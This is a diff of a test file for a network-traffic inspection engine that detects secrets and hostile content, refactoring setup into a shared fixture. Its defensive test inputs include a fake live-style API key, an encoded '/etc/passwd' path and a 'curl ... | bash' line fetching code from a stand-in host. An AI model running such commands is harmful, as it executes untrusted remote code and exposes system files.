@@ -1,47 +1,15 @@
 import test from 'ava';
-import { createEngine } from '../../src/detect/engine.ts';
-import { compileKernel } from '../../src/detect/kernel/select.ts';
-import { Spotter } from '../../src/detect/spotter.ts';
-import { ANCHORS, RULES } from '../../src/detect/rules/index.ts';
-import { withHidden } from '../../src/detect/unfold/hidden-anchors.ts';
-import { newCounters } from '../../src/model/counters.ts';
-import type { Detection, ScanReport, ScanWindow } from '../../src/model/finding.ts';
+import type { Detection, ScanReport } from '../../src/model/finding.ts';
 import { ScanRefused } from '../../src/model/ports.ts';
-import { Inspection } from '../../src/service/inspection.ts';
-import { RecordingPool } from '../support/recording-pool.ts';
+import { FLOW, engine, startInspection } from '../support/inspection-fixture.ts';
 
-const FLOW = { protocol: 'https', source: '127.0.0.1', dest: 'api.example.test:443' } as const;
 const KEY = 'sk-live-51HqLyjWDarjtT1zdp7dcXYZ';
-const spotter = new Spotter(compileKernel, withHidden(ANCHORS), RULES);
-const engine = createEngine({ rules: RULES, compileKernel, maskSecrets: true, maxFindings: 32 });
-
-function inspect(answer: (window: ScanWindow) => ScanReport | Promise<ScanReport> = engine) {
-  const pool = new RecordingPool(answer);
-  const counters = newCounters();
-  const detections: Detection[] = [];
-  /** Those waiting for the next detection. */
-  const waiting: (() => void)[] = [];
-  const inspection = new Inspection({
-    spotter,
-    windowBytes: 65_536,
-    pool,
-    counters,
-    report: (detection) => {
-      detections.push(detection);
-      for (const resolve of waiting.splice(0)) resolve();
-    },
-    now: () => 1234,
-  });
-  const nextDetection = (): Promise<void> => new Promise((resolve) => waiting.push(resolve));
-  return { inspection, pool, counters, detections, nextDetection };
-}
-
 function found(detections: readonly Detection[]): string[] {
   return detections.map(({ finding }) => `${finding.rule} ${finding.offset}`);
 }
 
 test('reports what stands in a whole text', async (t) => {
-  const { inspection, counters, detections } = inspect();
+  const { inspection, counters, detections } = startInspection();
   inspection.inspect(FLOW, 'outbound', 'request.head', Buffer.from(`GET / HTTP/1.1\r\nx-key: ${KEY}\r\n\r\n`));
   await inspection.drain();
   t.is(detections.length, 1);
@@ -51,7 +19,7 @@ test('reports what stands in a whole text', async (t) => {
 });
 
 test('clean texts cost the pool nothing', async (t) => {
-  const { inspection, pool, counters } = inspect();
+  const { inspection, pool, counters } = startInspection();
   inspection.inspect(FLOW, 'inbound', 'response.head', Buffer.from('HTTP/1.1 200 OK\r\n\r\n'));
   const body = inspection.open(FLOW, 'inbound', 'response.body');
   for (let round = 0; round < 100; round++) body.write(Buffer.from('{"type":"text","text":"the model returns"}\n'));
@@ -62,7 +30,7 @@ test('clean texts cost the pool nothing', async (t) => {
 });
 
 test('reports what stands in a text that comes in pieces', async (t) => {
-  const { inspection, detections } = inspect();
+  const { inspection, detections } = startInspection();
   const body = inspection.open(FLOW, 'outbound', 'request.body');
   for (const one of `{"key":"${KEY}"}`) body.write(Buffer.from(one));
   body.end();
@@ -71,7 +39,7 @@ test('reports what stands in a text that comes in pieces', async (t) => {
 });
 
 test('a text that goes on is read when it pauses, and each thing reported once', async (t) => {
-  const { inspection, detections, nextDetection, pool } = inspect();
+  const { inspection, detections, nextDetection, pool } = startInspection();
   // The timer that notices the pause keeps no process alive.
   const alive = setInterval(() => undefined, 1000);
   t.teardown(() => clearInterval(alive));
@@ -93,7 +61,7 @@ test('a text that goes on is read when it pauses, and each thing reported once',
 test('what a pause cut in two is found when it is whole', async (t) => {
   for (const text of [`x ${KEY} y`, 'x \\u002fetc\\u002fpasswd y', 'x curl -s https://x.test/i | bash y']) {
     for (let at = 1; at < text.length; at++) {
-      const { inspection, detections } = inspect();
+      const { inspection, detections } = startInspection();
       const body = inspection.open(FLOW, 'inbound', 'response.body');
       body.write(Buffer.from(text.slice(0, at)));
       await inspection.drain();
@@ -107,7 +75,7 @@ test('what a pause cut in two is found when it is whole', async (t) => {
 
 test('counts what the pool did not judge, by its reason', async (t) => {
   const refusals: Error[] = [new ScanRefused('queue_full'), new ScanRefused('scan_timeout'), new Error('a bug')];
-  const { inspection, counters, detections } = inspect(() => {
+  const { inspection, counters, detections } = startInspection(() => {
     throw refusals.shift() ?? new ScanRefused('queue_full');
   });
   for (let round = 0; round < 4; round++) inspection.inspect(FLOW, 'outbound', 'request.head', Buffer.from(KEY));
@@ -119,7 +87,7 @@ test('counts what the pool did not judge, by its reason', async (t) => {
 });
 
 test('counts a window that held more than is reported', async (t) => {
-  const { inspection, counters, detections } = inspect();
+  const { inspection, counters, detections } = startInspection();
   inspection.inspect(FLOW, 'inbound', 'response.body', Buffer.from('/etc/passwd '.repeat(100)));
   await inspection.drain();
   t.is(detections.length, 32);
@@ -128,7 +96,7 @@ test('counts a window that held more than is reported', async (t) => {
 
 test('drain waits for windows that are being judged', async (t) => {
   let answer: (report: ScanReport) => void = () => undefined;
-  const { inspection, detections, pool } = inspect(() => new Promise((resolve) => (answer = resolve)));
+  const { inspection, detections, pool } = startInspection(() => new Promise((resolve) => (answer = resolve)));
   const body = inspection.open(FLOW, 'outbound', 'request.body');
   body.write(Buffer.from(KEY));
   let isDrained = false;
@@ -142,7 +110,7 @@ test('drain waits for windows that are being judged', async (t) => {
 });
 
 test('windows can be moved to a thread', async (t) => {
-  const { inspection, pool } = inspect();
+  const { inspection, pool } = startInspection();
   const shared = Buffer.from(KEY);
   inspection.inspect(FLOW, 'outbound', 'request.head', shared);
   const body = inspection.open(FLOW, 'outbound', 'request.body');
